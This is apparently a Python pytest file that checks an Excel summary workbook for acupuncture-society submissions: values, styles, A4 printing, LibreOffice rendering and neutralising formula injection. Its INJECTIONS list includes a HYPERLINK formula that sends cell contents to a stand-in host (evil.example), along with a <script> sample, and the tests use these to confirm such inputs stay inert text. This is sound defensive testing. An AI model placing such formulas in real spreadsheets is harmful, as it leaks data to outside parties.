"""汇总表.xlsx: read back with openpyxl (values and styles), raw XML, and LibreOffice."""

from __future__ import annotations

import csv
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.campaign import builtin
from pipeline.documents.convert import seed_profile
from pipeline.model import Problem, Status
from pipeline.reports.summary import all_headers, build_summary_xlsx, unit_headers
from pipeline.reports.views import AttachmentView, SubmissionView, UnitRow
from pipeline.reports.xlsx_style import display_width, looks_like_formula, put, safe_value, status_fill

FORM = builtin().form
FORM_LABELS = FORM.labels
UNIT_HEADERS = unit_headers(FORM)
ALL_HEADERS = all_headers(FORM)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=2+2",
    "#N/A",
]


def make_view(case_no: str, unit: str | None, status: Status, **fields: str) -> SubmissionView:
    values = {label: f"{label}-{case_no}" for label in FORM_LABELS}
    values.update(fields)
    return SubmissionView(
        case_no=case_no,
        unit=unit,
        sender=f"{case_no.lower()}@example.cn",
        message_id=f"{case_no}@mail.example.cn",
        arrival=datetime(2021, 8, 1, 1, 30, tzinfo=UTC),  # 09:30 in Beijing
        status=status,
        fields=values,
        normalized={},
        problems=[],
        attachments=[AttachmentView("附件1推荐表.docx", "推荐表", "a" * 64, 20480, None)],
        subject=f"推荐材料 {case_no}",
    )


@pytest.fixture()
def workbook(tmp_path: Path):
    accepted = make_view("TJ-001", "北京针灸学会", Status.ACCEPTED, 账号名称=INJECTIONS[0])
    fixing = make_view(
        "TJ-002", "上海市针灸学会", Status.NEEDS_FIX, 手机="+1", 邮编="-2", 联系人="@SUM(A1:A9)"
    )
    fixing.problems = [
        Problem("手机", "bad_phone", "手机号码应为11位数字，请核对后重新发送。"),
        Problem(None, "x", "缺少图文或视频材料。"),
    ]
    fixing.decisions = ["2021-08-01 10:00 张三：允许逾期提交（路上耽误）"]
    fixing.fields["账号简介"] = "简介含控制字符\x07\x1b与制表\t结尾 =1+1"
    late = make_view(
        "TJ-003", "天津针灸学会", Status.LATE, 运营主体=" =1+1", 注册时间="\t=2+2", 粉丝数量="#N/A"
    )
    old = make_view("TJ-000", "北京针灸学会", Status.SUPERSEDED)
    stray = make_view("TJ-004", None, Status.UNKNOWN_UNIT, 账号名称="<script>x</script>")
    units = [
        UnitRow("北京针灸学会", accepted, other_count=1),
        UnitRow("上海市针灸学会", fixing),
        UnitRow("天津针灸学会", late),
        UnitRow("河北省针灸学会", None),
    ]
    path = build_summary_xlsx(units, [accepted, fixing, late, old, stray], tmp_path / "汇总表.xlsx")
    return path, openpyxl.load_workbook(path)


def test_sheets_rows_and_values(workbook):
    path, wb = workbook
    assert path.name == "汇总表.xlsx" and path.is_file()
    assert wb.sheetnames == ["汇总", "推荐表内容", "全部来信"]
    ws = wb["汇总"]
    assert [c.value for c in ws[1]] == list(UNIT_HEADERS)
    assert ws.max_row == 5  # header + 4 roster units
    col = {h: i + 1 for i, h in enumerate(UNIT_HEADERS)}
    assert [ws.cell(r, col["状态"]).value for r in range(2, 6)] == [
        "已受理",
        "需补正",
        "逾期",
        "未报送",
    ]
    assert ws.cell(2, col["收到时间"]).value == "2021-08-01 09:30"
    assert (
        ws.cell(3, col["待办 / 问题"]).value
        == "待单位补正：手机号码应为11位数字，请核对后重新发送。；缺少图文或视频材料。"
    )
    assert ws.cell(4, col["受理编号"]).value == "TJ-003"
    assert ws.cell(5, col["单位"]).value == "河北省针灸学会"
    # Without the console's address, the file column says how many files there are (no dead link).
    assert ws.cell(2, col["原件"]).value == "1 个附件" and ws.cell(2, col["原件"]).hyperlink is None

    fields = wb["推荐表内容"]
    fcol = {c.value: c.column for c in fields[1]}
    assert [fields.cell(r, 1).value for r in range(2, fields.max_row + 1)] == [
        "北京针灸学会",
        "上海市针灸学会",
        "天津针灸学会",
    ]
    assert fields.cell(3, fcol["账号简介"]).value == "简介含控制字符与制表\t结尾 =1+1"
    for label in FORM_LABELS:
        assert label in fcol

    all_ws = wb["全部来信"]
    assert [c.value for c in all_ws[1]] == list(ALL_HEADERS)
    assert all_ws.max_row == 6
    cases = [all_ws.cell(r, 1).value for r in range(2, 7)]
    assert sorted(cases) == ["TJ-000", "TJ-001", "TJ-002", "TJ-003", "TJ-004"]
    row = cases.index("TJ-004") + 2
    acol = {h: i + 1 for i, h in enumerate(ALL_HEADERS)}
    assert all_ws.cell(row, acol["单位"]).value == "（未识别单位）"
    assert all_ws.cell(row, acol["账号名称"]).value == "<script>x</script>"
    assert all_ws.cell(row, acol["Message-ID"]).value == "TJ-004@mail.example.cn"
    fixing_row = cases.index("TJ-002") + 2
    assert (
        all_ws.cell(fixing_row, acol["人工决定"]).value == "2021-08-01 10:00 张三：允许逾期提交（路上耽误）"
    )


def test_links_to_the_console_and_marks_corrections(tmp_path: Path):
    view = make_view("TJ-007", "北京针灸学会", Status.ACCEPTED, 联系人="许诺")
    view.fields_read = dict(view.fields, 联系人="许读")
    path = build_summary_xlsx(
        [UnitRow("北京针灸学会", view)], [view], tmp_path / "s.xlsx", link_base="https://intake.example.cn/"
    )
    wb = openpyxl.load_workbook(path)
    cell = wb["汇总"].cell(2, UNIT_HEADERS.index("原件") + 1)
    # The address itself, so the printed sheet still says where to look.
    assert cell.value == cell.hyperlink.target == "https://intake.example.cn/case/TJ-007"
    fields = wb["推荐表内容"]
    col = next(c.column for c in fields[1] if c.value == "联系人")
    assert fields.cell(2, col).value == "许诺"
    assert "原识别值：许读" in fields.cell(2, col).comment.text


def test_styles_and_print_setup(workbook):
    _, wb = workbook
    for ws in wb.worksheets:
        assert all(c.font.bold for c in ws[1])
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}{ws.max_row}"
        assert ws.cell(2, 1).alignment.wrap_text
        assert int(ws.page_setup.paperSize) == 9  # A4; the printed size is tests/test_printed_sheets.py's
        assert ws.print_title_rows == "$1:$1"
        assert ws.print_area
    ws = wb["汇总"]
    status_col = UNIT_HEADERS.index("状态") + 1
    colors = [ws.cell(r, status_col).fill.fgColor.rgb[-6:] for r in range(2, 6)]
    assert colors == ["C6EFCE", "FFEB9C", "FFC7CE", "F8CBAD"]
    assert status_fill(Status.SUPERSEDED).fgColor.rgb[-6:] == "D9D9D9"
    assert status_fill(Status.MANUAL_REVIEW).fgColor.rgb == status_fill(Status.NEEDS_FIX).fgColor.rgb
    assert status_fill(Status.UNKNOWN_UNIT).fgColor.rgb == status_fill(Status.OVER_QUOTA).fgColor.rgb
    assert display_width("推荐表ab") == 8


def test_formula_injection_stays_text(workbook):
    path, wb = workbook
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in INJECTIONS:
                    found.add(cell.value)
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    if looks_like_formula(cell.value):
                        assert cell.quotePrefix, cell.coordinate
    assert found == set(INJECTIONS)
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = zf.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml
                assert 't="inlineStr"' in xml and 't="e"' not in xml


def test_looks_like_formula():
    for text in ("=1", "+1", "-1", "@a", " =1", "\u3000+1", "\t1", "\r1"):
        assert looks_like_formula(text), text
    for text in ("", "1+1", "北京", "a=b", "a-b"):
        assert not looks_like_formula(text), text


def _soffice(tmp_path: Path, path: Path, target: str) -> Path:
    out = tmp_path / "lo-out"
    seed_profile(tmp_path / "lo-profile")
    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(path),
        ],
        capture_output=True,
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    return out


def test_opens_in_libreoffice(workbook, tmp_path: Path):
    path, _ = workbook
    out = _soffice(tmp_path, path, "csv:Text - txt - csv (StarCalc):44,34,76,1")
    rows = list(csv.reader((out / "汇总表.csv").read_text(encoding="utf-8").splitlines(keepends=True)))
    assert rows[0][:3] == ["序号", "单位", "状态"]
    by_unit = {r[1]: r for r in rows[1:]}
    assert set(by_unit) == {"北京针灸学会", "上海市针灸学会", "天津针灸学会", "河北省针灸学会"}
    # LibreOffice shows the text, not the result of evaluating it.
    assert by_unit["北京针灸学会"][UNIT_HEADERS.index("账号名称")] == INJECTIONS[0]
    assert by_unit["上海市针灸学会"][UNIT_HEADERS.index("手机")] == "+1"
    assert by_unit["河北省针灸学会"][2] == "未报送"


def test_prints_on_a4_landscape_readable(tmp_path: Path):
    """Printed as staff print it: 30 units on a few landscape pages, the body readable
    (at least 9 pt), every column printed, the header repeated."""
    import pdfplumber

    units, views = [], []
    for i in range(30):
        view = make_view(f"TJ-{i:03d}", f"第{i}省针灸学会", Status.ACCEPTED if i % 3 else Status.NEEDS_FIX)
        view.fields["推荐理由"] = "坚持群众导向，及时回应群众关切，内容权威、形式新颖。" * 6
        units.append(UnitRow(view.unit, view))
        views.append(view)
    path = build_summary_xlsx(units, views, tmp_path / "汇总表.xlsx")
    wb = openpyxl.load_workbook(path)
    for name in wb.sheetnames[1:]:
        del wb[name]  # print the first sheet alone
    first = tmp_path / "first.xlsx"
    wb.save(first)
    pdf = _soffice(tmp_path, first, "pdf") / "first.pdf"
    with pdfplumber.open(pdf) as doc:
        assert len(doc.pages) <= 6, len(doc.pages)
        page = doc.pages[0]
        assert page.width > page.height  # landscape
        assert min(c["size"] for p in doc.pages for c in p.chars if c["text"].strip()) >= 9.0
        text = "".join(p.extract_text() for p in doc.pages).replace(" ", "")
        for header in UNIT_HEADERS:
            assert header.replace(" ", "") in text, header
        assert "序号" in doc.pages[-1].extract_text().replace(" ", "")  # the header repeats


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=40))
def test_any_text_round_trips_as_text(tmp_path: Path, text: str):
    wb = openpyxl.Workbook()
    put(wb.active, 1, 1, text)
    path = tmp_path / "p.xlsx"
    wb.save(path)
    cell = openpyxl.load_workbook(path).active["A1"]
    expected = safe_value(text)
    if expected == "":
        assert cell.value is None
        return
    assert cell.data_type == "s"
    assert cell.value == expected


@pytest.mark.parametrize("text", ["a\r\nb", "\ud800坏", "  ", "x" * 40000, "\x00\x01ok"])
def test_awkward_text_is_written(tmp_path: Path, text: str):
    wb = openpyxl.Workbook()
    put(wb.active, 1, 1, text)
    wb.save(tmp_path / "p.xlsx")
    value = openpyxl.load_workbook(tmp_path / "p.xlsx").active["A1"].value
    assert value == safe_value(text)
    assert len(value) <= 32767 and "\x00" not in value


def test_sheets_follow_the_campaigns_form(tmp_path: Path):
    """Another campaign's form: every column, width and sheet name comes from its fields."""
    from pipeline.campaign import FieldSpec, FormSpec, Kind
    from pipeline.reports.summary import build_packet_summary, field_headers, packet_headers

    work = FormSpec(
        fields=(
            FieldSpec("作品名称", summary=True, width=20),
            FieldSpec("作者", summary=True),
            FieldSpec("阅读量", kind=Kind.INTEGER),
            FieldSpec("作品简介", kind=Kind.LONG_TEXT),
            FieldSpec("联系电话", kind=Kind.PHONE, summary=True),
        ),
        title="申报表",
        identity="作品名称",
    )
    view = make_view("TJ-001", "北京针灸学会", Status.ACCEPTED)
    view.fields = {
        "作品名称": "穴位科普",
        "作者": "张三",
        "阅读量": "3万",
        "作品简介": "简介",
        "联系电话": "139",
    }
    path = build_summary_xlsx([UnitRow("北京针灸学会", view)], [view], tmp_path / "汇总表.xlsx", form=work)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["汇总", "申报表内容", "全部来信"]
    head = [c.value for c in wb["汇总"][1]]
    assert head == [
        "序号",
        "单位",
        "状态",
        "受理编号",
        "作品名称",
        "作者",
        "联系电话",
        "收到时间",
        "待办 / 问题",
        "原件",
    ]
    assert [c.value for c in wb["汇总"][2]][4:7] == ["穴位科普", "张三", "139"]
    fields = wb["申报表内容"]
    assert [c.value for c in fields[1]] == list(field_headers(work))
    assert [c.value for c in fields[2]][3:] == list(view.fields.values())
    widths = {c.value: fields.column_dimensions[c.column_letter].width for c in fields[1]}
    assert widths["作品名称"] == 20 and widths["作品简介"] == 22 and widths["联系电话"] == 13
    assert [c.value for c in wb["全部来信"][1]][6:11] == list(work.labels)
    sheet = build_packet_summary(
        [view],
        [
            {
                "folder": "1_穴位科普",
                "files": ["1_穴位科普/申报表.docx"],
                "form_file": "1_穴位科普/申报表.docx",
            }
        ],
        tmp_path / "推荐作品汇总表.xlsx",
        form=work,
        sheet_title="推荐作品",
    )
    ws = openpyxl.load_workbook(sheet)["推荐作品"]
    assert [c.value for c in ws[1]] == list(packet_headers(work))
    assert ws.cell(2, packet_headers(work).index("申报表") + 1).hyperlink.target == "1_穴位科普/申报表.docx"
    assert (
        ws.column_dimensions["F"].width == work.field("作品简介").sheet_width
    )  # long text wraps in its width
